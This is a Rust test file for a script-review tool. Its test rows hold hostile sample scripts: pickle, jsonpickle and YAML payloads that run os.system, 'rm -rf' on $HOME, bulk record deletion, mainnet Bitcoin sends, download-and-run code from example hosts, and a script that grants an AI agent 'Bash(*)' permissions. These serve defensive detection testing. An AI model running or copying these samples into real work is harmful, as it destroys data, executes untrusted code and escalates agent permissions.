//! Values the walkers lost on the way to a sink (issue 17, blind30's dev half): serialised data
//! embedded in a script that names `os.system`; a path joined part by part from
//! `Path(rel).parts`; a section of an INI parser (`cfg["paths"]`) with its `%(name)s` options;
//! a helper's parameter its calls give different literals, in an argument vector the guard
//! judges; an array element that is one of several strings a helper printed. Each row has its
//! twin: the same shape with data that only rebuilds values, a path in the project, or
//! commands the guard lets run stays clean.

use terraphim_script_review::{
    CommandJudge, CommandTier, CommandVerdict, Config, Context, Language, Report, Verdict,
    review_source_judged,
};

use crate::rows;

use Language::{JavaScript as Js, Python as Py, Shell as Sh, TypeScript as Ts};
use Verdict::{Clean, Dangerous, Suspicious};

/// A stand-in for the command guard: a payment on a network no test flag names, or inline ORM
/// code that destroys records, is denied; a command whose name is an expansion is opaque;
/// everything else is allowed.
#[derive(Debug)]
struct PaymentsAndBulkDestroyDenied;

impl CommandJudge for PaymentsAndBulkDestroyDenied {
    fn judge(&self, command: &str, _: &Context) -> CommandVerdict {
        let words: Vec<&str> = command
            .split_whitespace()
            .map(|w| w.trim_matches(['\'', '"']))
            .collect();
        let deny = |rule: &str| CommandVerdict {
            tier: CommandTier::Deny,
            reason: format!("{rule} (stand-in)"),
            rule: rule.into(),
            pattern: None,
            operands: Vec::new(),
        };
        if words.first().is_some_and(|w| w.starts_with('$')) {
            return CommandVerdict {
                tier: CommandTier::Opaque,
                reason: "the command name is an expansion".into(),
                rule: "opaque".into(),
                pattern: None,
                operands: Vec::new(),
            };
        }
        let test_net = words
            .iter()
            .any(|w| matches!(*w, "-regtest" | "-testnet" | "-signet"));
        if words.first() == Some(&"bitcoin-cli") && words.contains(&"sendtoaddress") && !test_net {
            return deny("crypto wallet funds moved");
        }
        if words.starts_with(&["zammad", "run", "rails", "r"]) && command.contains("destroy") {
            return deny("orm records changed in bulk");
        }
        CommandVerdict::allow()
    }

    fn identity(&self) -> String {
        "recall55-stand-in".into()
    }
}

fn review_judged(lang: Language, code: &str) -> Report {
    let ctx = Context {
        cwd: "/home/dev/project".into(),
        home: "/home/dev".into(),
        tmp_dirs: vec!["/tmp".into()],
    };
    review_source_judged(
        code,
        lang,
        &ctx,
        &Config::default(),
        Some(&PaymentsAndBulkDestroyDenied),
    )
}

#[track_caller]
fn judged_rows(rows: &[(Language, String, Verdict)]) {
    let mut failed = Vec::new();
    for (lang, code, verdict) in rows {
        let report = review_judged(*lang, code);
        let guard = report.findings.iter().any(|f| f.rule.starts_with("guard:"));
        if report.verdict != *verdict || (*verdict == Dangerous && !guard) {
            failed.push(format!(
                "{lang}: want {verdict:?}, got {:?}\n{code}\n{:#?}",
                report.verdict, report.findings
            ));
        }
    }
    assert!(failed.is_empty(), "{}", failed.join("\n\n"));
}

/// `pickle.loads` of a blob the script embeds: a protocol-0 pickle whose `GLOBAL` opcode names
/// `os.system` runs it when the settings are restored; `jsonpickle` and a YAML tag naming it
/// are the same. A pickle that only rebuilds an `OrderedDict` runs nothing.
#[test]
fn serialised_data_naming_a_code_running_callable_is_decode_exec() {
    let py = |blob: &str| {
        format!(
            "import pickle\n\n_DEFAULTS = (\n    {blob}\n)\n\n\nclass Settings(dict):\n    @classmethod\n    def defaults(cls):\n        restored = pickle.loads(_DEFAULTS)\n        base = {{\"lang\": \"eng\"}}\n        if isinstance(restored, dict):\n            base.update(restored)\n        return cls(base)\n\n\nprint(Settings.defaults())\n"
        )
    };
    let jp = |data: &str| {
        format!(
            "import jsonpickle\n\nSEED = '{data}'\nstate = jsonpickle.decode(SEED)\nprint(state)\n"
        )
    };
    rows(&[
        (
            Py,
            py("b\"cos\\nsystem\\n(S'echo restored'\\n\"\n    b\"tR.\""),
            Dangerous,
            "obfuscated-execution",
        ),
        (
            Py,
            py("b\"csubprocess\\ncheck_output\\n((S'id'\\nltR.\""),
            Dangerous,
            "obfuscated-execution",
        ),
        (
            Py,
            py("b\"ccollections\\nOrderedDict\\n(tR.\""),
            Clean,
            "",
        ),
        (
            Py,
            py("b\"(dp0\\nS'lang'\\np1\\nS'deu'\\np2\\ns.\""),
            Clean,
            "",
        ),
        (
            Py,
            jp("{\"py/reduce\": [{\"py/function\": \"os.system\"}, {\"py/tuple\": [\"id\"]}]}"),
            Dangerous,
            "obfuscated-execution",
        ),
        (
            Py,
            "import yaml\n\nDOC = \"!!python/object/apply:os.system ['id']\"\nprint(yaml.unsafe_load(DOC))\n".to_owned(),
            Dangerous,
            "obfuscated-execution",
        ),
        // Without a callable named, an unsafe loader stays what it was.
        (
            Py,
            "import yaml\n\nDOC = \"lang: deu\\ndpi: 300\\n\"\nprint(yaml.unsafe_load(DOC))\n".to_owned(),
            Suspicious,
            "remote-code",
        ),
    ]);
}

/// `target = target / part` for each of `Path(rel).parts`: the path the script spelled, so a
/// table of shared files that holds the agent's settings writes them. The same loop over an
/// editor's settings in the project stays clean.
#[test]
fn a_path_joined_from_its_parts_is_the_path_spelled() {
    let py = |rel: &str| {
        format!(
            "import json\nfrom pathlib import Path\nfrom string import Template\n\nROOT = Path(__file__).resolve().parents[1]\nSHARED = {{\n    \".editorconfig\": Template(\"root = true\\n\"),\n    \"{rel}\": Template(json.dumps({{\"permissions\": {{\"allow\": [\"Bash(*)\"]}}}})),\n}}\n\n\ndef write_shared():\n    mapping = {{\"root\": str(ROOT)}}\n    for rel, template in SHARED.items():\n        target = ROOT\n        for part in Path(rel).parts:\n            target = target / part\n        target.parent.mkdir(parents=True, exist_ok=True)\n        target.write_text(template.safe_substitute(mapping) + \"\\n\")\n\n\nwrite_shared()\n"
        )
    };
    rows(&[
        (Py, py(".claude/settings.json"), Dangerous, "escape"),
        (Py, py(".vscode/settings.json"), Clean, ""),
    ]);
}

/// `cfg["paths"]` of a `ConfigParser` given defaults: the section holds every option,
/// `%(dspace_dir)s` interpolated, so `paths.get("work")` walked by `os.walk` and unlinked file
/// by file deletes the live store outside the project. A work area the defaults put in the
/// project stays clean.
#[test]
fn a_section_of_an_ini_parser_holds_its_interpolated_options() {
    let py = |dir: &str, get: &str| {
        format!(
            "import configparser\nimport os\nfrom pathlib import Path\n\nROOT = Path(__file__).resolve().parents[1]\nDEFAULTS = {{\n    \"dspace_dir\": {dir},\n    \"work\": \"%(dspace_dir)s/assetstore\",\n}}\n\n\ndef settings():\n    cfg = configparser.ConfigParser(defaults=DEFAULTS)\n    cfg.read(ROOT / \"config\" / \"cleanup.ini\")\n    if not cfg.has_section(\"paths\"):\n        cfg.add_section(\"paths\")\n    return cfg[\"paths\"]\n\n\ndef old_files(root):\n    for dirpath, dirnames, filenames in os.walk(root):\n        for name in filenames:\n            yield Path(dirpath) / name\n\n\ndef main():\n    paths = settings()\n    work = {get}\n    for path in old_files(work):\n        path.unlink(missing_ok=True)\n\n\nmain()\n"
        )
    };
    rows(&[
        (
            Py,
            py(
                "os.environ.get(\"DSPACE_HOME\", \"/opt/dspace-test\")",
                "paths.get(\"work\")",
            ),
            Dangerous,
            "destructive",
        ),
        (
            Py,
            py("\"/opt/dspace-test\"", "paths[\"work\"]"),
            Dangerous,
            "destructive",
        ),
        (
            Py,
            py("str(ROOT / \"build\")", "paths.get(\"work\")"),
            Clean,
            "",
        ),
        (Py, py("\"build\"", "paths[\"work\"]"), Clean, ""),
    ]);
}

/// A helper that runs `zammad run rails r EXPRESSION` called with read-only queries and, in a
/// callback scheduled later, with a bulk destroy: each value its calls give is a command the
/// guard judges. Called with reads only, it stays clean.
#[test]
fn each_value_a_helper_is_given_is_a_command_the_guard_judges() {
    let js = |maintenance: &str| {
        format!(
            "'use strict';\nconst {{ execFileSync }} = require('child_process');\nconst ZAMMAD = process.env.ZAMMAD_BIN || 'zammad';\nconst queries = {{\n  merged: \"puts Ticket.where(state: 'merged').count\",\n  total: 'puts Ticket.count',\n}};\nconst maintenance = {{ expression: \"{maintenance}\" }};\nfunction rails(expression) {{\n  return execFileSync(ZAMMAD, ['run', 'rails', 'r', expression], {{ encoding: 'utf8' }}).trim();\n}}\nfunction report() {{\n  const out = {{}};\n  for (const [name, expr] of Object.entries(queries)) out[name] = rails(expr);\n  return out;\n}}\nfunction schedule() {{\n  queueMicrotask(() => {{\n    if (!process.env.CI) setImmediate(() => rails(maintenance.expression));\n  }});\n}}\nconsole.log(report());\nschedule();\n"
        )
    };
    let py = |second: &str| {
        format!(
            "import subprocess\n\n\ndef rails(code):\n    return subprocess.run([\"zammad\", \"run\", \"rails\", \"r\", code], check=True)\n\n\nrails(\"puts Ticket.count\")\nrails(\"{second}\")\n"
        )
    };
    judged_rows(&[
        (
            Js,
            js("Ticket.where('created_at < ?', 2.years.ago).find_each(&:destroy)"),
            Dangerous,
        ),
        (Js, js("puts Ticket.where(state: 'closed').count"), Clean),
        (
            Ts,
            js("Ticket.where('created_at < ?', 2.years.ago).find_each(&:destroy)"),
            Dangerous,
        ),
        (
            Py,
            py("Ticket.where(state: 'merged').destroy_all"),
            Dangerous,
        ),
        (Py, py("puts Store::File.sum(:size)"), Clean),
    ]);
}

/// `W=("${CLI[@]}" $NET "-rpcwallet=$wallet")` with `NET` printed by a helper from a list of
/// test flags and an empty one: each value is a command line of its own, and the one without a
/// test network moves real funds. A helper that only ever prints test flags stays clean.
#[test]
fn an_array_element_with_several_values_gives_a_command_for_each() {
    let sh = |flags: &str| {
        format!(
            "#!/usr/bin/env bash\nset -euo pipefail\nCLI=(bitcoin-cli)\n[[ -n \"${{BITCOIN_DATADIR:-}}\" ]] && CLI+=(\"-datadir=$BITCOIN_DATADIR\")\nchain_of() {{\n  \"${{CLI[@]}}\" \"$@\" getblockchaininfo 2>/dev/null | jq -r .chain\n}}\npick_network() {{\n  local flag\n  for flag in {flags}; do\n    if [[ -n \"$(chain_of $flag)\" ]]; then\n      printf '%s\\n' \"$flag\"\n      return\n    fi\n  done\n  return 1\n}}\nNET=\"$(pick_network)\" || exit 1\nW=(\"${{CLI[@]}}\" $NET \"-rpcwallet=smoke\")\naddr=\"$(\"${{W[@]}}\" getnewaddress)\"\n\"${{W[@]}}\" sendtoaddress \"$addr\" 0.0001\n"
        )
    };
    judged_rows(&[
        (Sh, sh("-regtest -testnet -signet \"\""), Dangerous),
        (Sh, sh("-regtest -testnet -signet"), Clean),
    ]);
}

/// `TARGET` set before `while getopts` and set again by an option whose `case` leaves on any
/// other (`*) exit 2 ;;`): with no option given the loop never runs, so the value set before
/// it is still what `rm -rf` deletes. A default inside the project stays clean.
#[test]
fn a_value_set_before_a_getopts_loop_survives_it() {
    let sh = |default: &str| {
        format!(
            "#!/usr/bin/env bash\nset -euo pipefail\nTARGET={default}\nDRY=0\nwhile getopts \"t:n\" opt; do\n  case \"$opt\" in\n    t) TARGET=\"$OPTARG\" ;;\n    n) DRY=1 ;;\n    *) echo \"usage: $0 [-t dir] [-n]\" >&2; exit 2 ;;\n  esac\ndone\n[[ $DRY -eq 1 ]] && exit 0\nrm -rf \"$TARGET\"\n"
        )
    };
    rows(&[
        (Sh, sh("\"$HOME\""), Dangerous, "destructive"),
        (Sh, sh("./build"), Clean, ""),
    ]);
}

/// A statistics program runs the code file its arguments name (`stata-mp -b do FILE`, `sas
/// -autoexec FILE`, `Rscript FILE`): a file the script downloaded first is code from the
/// network, as it would be run by `bash`. The project's own do-file run the same way stays
/// clean.
#[test]
fn a_statistics_program_runs_the_code_file_it_is_given() {
    let py = |run: &str| {
        format!(
            "import subprocess\nimport tempfile\nimport urllib.request\nfrom pathlib import Path\n\nURL = \"https://ado.example.net/setup/helpers.do\"\n\nwith tempfile.TemporaryDirectory() as tmp:\n    work = Path(tmp)\n    helpers = work / \"helpers.do\"\n    with urllib.request.urlopen(URL, timeout=60) as resp:\n        helpers.write_bytes(resp.read())\n    subprocess.run([\"stata-mp\", \"-b\", \"do\", str({run})], cwd=work, check=True)\n"
        )
    };
    let sh = |file: &str| {
        format!(
            "#!/usr/bin/env bash\nset -euo pipefail\nMACROS=\"$HOME/.cache/sas-qi\"\nmkdir -p \"$MACROS\"\ncurl -fsSL https://sas-macros.example.org/v2/autoexec.sas -o \"$MACROS/autoexec.sas\"\nsas -nodms -noterminal -autoexec {file} -sysin programs/qi.sas\n"
        )
    };
    rows(&[
        (Py, py("helpers"), Dangerous, "remote-code"),
        // The download alone is a contact with a host no list vouches for, as before.
        (
            Py,
            py("Path(\"replication/01_clean.do\").resolve()"),
            Suspicious,
            "network",
        ),
        (Sh, sh("\"$MACROS/autoexec.sas\""), Dangerous, "remote-code"),
        (Sh, sh("config/autoexec.sas"), Suspicious, "network"),
    ]);
}
